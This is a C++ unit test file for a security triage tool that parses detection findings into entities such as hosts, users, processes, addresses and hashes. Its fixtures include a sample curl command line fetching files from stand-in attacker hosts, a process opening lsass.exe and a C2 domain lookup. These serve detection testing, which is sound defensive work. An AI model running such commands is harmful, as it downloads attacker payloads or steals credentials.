#include <gtest/gtest.h>

#include "triage/entity_names.h"
#include "triage/finding.h"

namespace tocsin::triage {
namespace {

using model::Entity;
using model::EntityKind;
using model::EntityRole;

Finding read(const std::string& evidence, const std::string& rest = "") {
  Finding out;
  const auto result = read_finding(
      R"({"time":1794915690000,"severity_id":4,"finding_info":{"uid":"f1","title":"T","analytic":{"uid":"r1"}},"evidences":[)" +
          evidence + "]" + rest + "}",
      out);
  EXPECT_TRUE(result.ok());
  return out;
}

std::string keys(const Finding& finding, EntityKind kind) {
  std::string out;
  for (const Entity& entity : finding.entities) {
    if (entity.kind == kind) out += (out.empty() ? "" : " ") + entity.key + ":" + model::to_string(entity.role);
  }
  return out;
}

TEST(ReadFinding, FillsTheHeadOnlyWhereItIsEmpty) {
  Finding out;
  out.rule_title = "kept";
  ASSERT_TRUE(read_finding(R"({"time":1500,"severity_id":5,"finding_info":{"uid":"u","title":"t","analytic":{"uid":"r"},
    "attacks":[{"tactic":{"uid":"TA0002"},"technique":{"uid":"T1059"},"sub_technique":{"uid":"T1059.001"}},
               {"tactics":[{"uid":"TA0003"},{"uid":"TA0002"}],"technique":{"uid":"T1053"}}]}})",
                           out)
                  .ok());
  EXPECT_EQ(out.id, "u");
  EXPECT_EQ(out.rule_title, "kept");
  EXPECT_EQ(out.severity_id, 5);
  EXPECT_EQ(out.event_time.ns, 1'500'000'000);
  EXPECT_EQ(out.tactics, (std::vector<std::string>{"TA0002", "TA0003"}));
  EXPECT_EQ(out.techniques, (std::vector<std::string>{"T1059.001", "T1053"}));
}

TEST(ReadFinding, RefusesWhatIsNoObject) {
  Finding out;
  EXPECT_FALSE(read_finding("[1]", out).ok());
  EXPECT_FALSE(read_finding("{", out).ok());
  EXPECT_FALSE(read_finding("", out).ok());
  EXPECT_TRUE(read_finding("{}", out).ok());
}

TEST(ReadFinding, HostIsItsShortNameInLowerCase) {
  EXPECT_EQ(keys(read(R"({"device":{"hostname":"WS-042.harrow.example"}})"), EntityKind::kHost), "ws-042:affected");
  EXPECT_EQ(keys(read(R"({"device":{"hostname":"ws-042"}})"), EntityKind::kHost), "ws-042:affected");
  EXPECT_EQ(keys(read(R"({"device":{"uid":"AGENT-7F"}})"), EntityKind::kHost), "agent-7f:affected");
  EXPECT_EQ(keys(read(R"({"device":{"hostname":"localhost"}})"), EntityKind::kHost), "");
}

TEST(ReadFinding, UserIsHisSidThenUpnThenNameAtDomainThenNameAtHost) {
  const auto user = [](const std::string& fields) {
    return keys(read(R"({"device":{"hostname":"WS-1.corp.example"},"actor":{"user":{)" + fields + "}}}"), EntityKind::kUser);
  };
  EXPECT_EQ(user(R"("uid":"S-1-5-21-1-2-3-1142","name":"anna","domain":"CORP")"), "s-1-5-21-1-2-3-1142:actor");
  EXPECT_EQ(user(R"("name":"Anna@Corp.example")"), "anna@corp.example:actor");
  EXPECT_EQ(user(R"("name":"Anna","domain":"CORP")"), "anna@corp:actor");
  EXPECT_EQ(user(R"("name":"CORP\\Anna")"), "anna@corp:actor");
  EXPECT_EQ(user(R"("name":"anna","domain":"WS-1")"), "anna@ws-1:actor");
  EXPECT_EQ(user(R"("name":"anna")"), "anna@ws-1:actor");
  EXPECT_EQ(user(R"("uid":1004)"), "1004@ws-1:actor");
  EXPECT_EQ(user(R"("uid":"arn:aws:iam::1:user/Eva","name":"Eva")"), "arn:aws:iam::1:user/Eva:actor");
  EXPECT_EQ(user(R"("name":"-")"), "");
}

TEST(ReadFinding, ProcessIsItsGuidElsePidAndStart) {
  const Finding sysmon = read(R"({"device":{"hostname":"WS-1"},"process":{"name":"p.exe","pid":5120,"uid":"{AB12-0001}",
    "parent_process":{"name":"w.exe","pid":4312,"uid":"{AB12-0002}"}},"data":{"class_uid":1007,"activity_id":1,"time":5000}})");
  EXPECT_EQ(keys(sysmon, EntityKind::kProcess), "ws-1|{ab12-0001}:affected ws-1|{ab12-0002}:parent");
  EXPECT_EQ(sysmon.entities[1].label, "p.exe (5120)");
  ASSERT_EQ(sysmon.relations.size(), 1U);
  EXPECT_EQ(sysmon.relations[0].kind, Finding::Relation::Kind::kStarted);
  EXPECT_EQ(sysmon.entities[sysmon.relations[0].from].key, "ws-1|{ab12-0002}");
  const Finding security = read(R"({"device":{"hostname":"WS-1"},"process":{"name":"p.exe","pid":5120,"uid":"unknown"},
    "actor":{"process":{"pid":4312}},"data":{"class_uid":1007,"activity_id":1,"time":5000}})");
  EXPECT_EQ(keys(security, EntityKind::kProcess), "ws-1|5120|5000:affected ws-1|4312:parent");
}

TEST(ReadFinding, OpenedProcessIsATarget) {
  const Finding out = read(
      R"({"device":{"hostname":"WS-1"},"process":{"name":"lsass.exe","pid":704},"actor":{"process":{"name":"r.exe","pid":6852}},
    "data":{"class_uid":1007,"activity_id":3}})");
  EXPECT_EQ(keys(out, EntityKind::kProcess), "ws-1|704:target ws-1|6852:actor");
  EXPECT_TRUE(out.relations.empty());
}

TEST(ReadFinding, AddressesAreCanonical) {
  const Finding out =
      read(R"({"src_endpoint":{"ip":"::ffff:10.1.2.3"},"dst_endpoint":{"ip":"2001:DB8:0:0::1","hostname":"srv-1"}})");
  EXPECT_EQ(keys(out, EntityKind::kAddress), "10.1.2.3:source 2001:db8::1:destination");
  EXPECT_EQ(keys(out, EntityKind::kHost), "srv-1:destination");
}

TEST(ReadFinding, NameBelowTheOwnDomainIsAHostAndAnotherIsADomain) {
  const Finding out = read(
      R"({"device":{"hostname":"ws-1.corp.example"},"dst_endpoint":{"hostname":"dc-01.corp.example."},"query":{"hostname":"C2.bad.example"}})");
  EXPECT_EQ(keys(out, EntityKind::kHost), "ws-1:affected dc-01:destination");
  EXPECT_EQ(keys(out, EntityKind::kDomain), "c2.bad.example:destination");
}

TEST(ReadFinding, UrlsOfCommandLinesAreDestinations) {
  const Finding out = read(
      R"({"device":{"hostname":"s"},"process":{"pid":77,"name":"curl","cmd_line":"curl -k https://203.0.113.66/k -o x http://u:p@Drop.bad.example:8080/a"}})");
  EXPECT_EQ(keys(out, EntityKind::kAddress), "203.0.113.66:destination");
  EXPECT_EQ(keys(out, EntityKind::kDomain), "drop.bad.example:destination");
}

TEST(ReadFinding, CorrelationGivesItsHostsAndGroup) {
  const Finding out =
      read(R"({"name":"c","data":{"group":{"IpAddress":"10.20.4.42","hostname":"srv-1","recipientAccountId":"111122223333",
    "userIdentity.arn":"arn:aws:iam::1:user/eva","unknown":"x"},"hosts":["DC-01.harrow.example"]}})");
  EXPECT_EQ(keys(out, EntityKind::kHost), "dc-01:affected srv-1:affected");
  EXPECT_EQ(keys(out, EntityKind::kAddress), "10.20.4.42:source");
  EXPECT_EQ(keys(out, EntityKind::kCloudResource), "account:111122223333:affected");
  EXPECT_EQ(keys(out, EntityKind::kUser), "arn:aws:iam::1:user/eva:actor");
}

TEST(ReadFinding, HashesAreNamedByAlgorithmAndChecked) {
  const Finding out = read(
      R"({"device":{"hostname":"s"},"file":{"path":"/tmp/X","hashes":[{"algorithm":"SHA-1","value":"DA39A3EE5E6B4B0D3255BFEF95601890AFD80709"},
    {"algorithm":"MD5","value":"zz"},{"algorithm":"IMPHASH","value":"d41d8cd98f00b204e9800998ecf8427e"}]}})");
  EXPECT_EQ(keys(out, EntityKind::kFileHash), "sha1:da39a3ee5e6b4b0d3255bfef95601890afd80709:target");
  EXPECT_EQ(keys(out, EntityKind::kFile), "s|/tmp/X:target");
}

TEST(ReadFinding, SessionIsOfItsHost) {
  EXPECT_EQ(keys(read(R"({"device":{"hostname":"WS-1"},"actor":{"session":{"uid":"0x5A3F1"}}})"), EntityKind::kSession),
            "ws-1|0x5a3f1:related");
}

TEST(ReadFinding, MoreThingsThanTheLimitAreLeftOut) {
  std::string hosts;
  for (int i = 0; i < 500; ++i) hosts += (i == 0 ? "\"h" : ",\"h") + std::to_string(i) + "\"";
  const Finding out = read(R"({"data":{"group":{},"hosts":[)" + hosts + "]}}");
  EXPECT_EQ(out.entities.size(), 64U);
  EXPECT_EQ(out.entities[0].role, EntityRole::kRelated);
}

TEST(EntityNames, NetworkContainsItsEdgesOnly) {
  const auto network = parse_network("10.20.0.0/15");
  ASSERT_TRUE(network.has_value());
  EXPECT_TRUE(network->contains(*parse_address("10.20.0.0")));
  EXPECT_TRUE(network->contains(*parse_address("::ffff:10.21.255.255")));
  EXPECT_FALSE(network->contains(*parse_address("10.22.0.0")));
  EXPECT_FALSE(network->contains(*parse_address("10.19.255.255")));
  EXPECT_FALSE(parse_network("10.0.0.0/33").has_value());
  EXPECT_FALSE(parse_network("10.0.0.0/").has_value());
  EXPECT_FALSE(parse_network("10.0.0.0").has_value());
}

}  // namespace
}  // namespace tocsin::triage
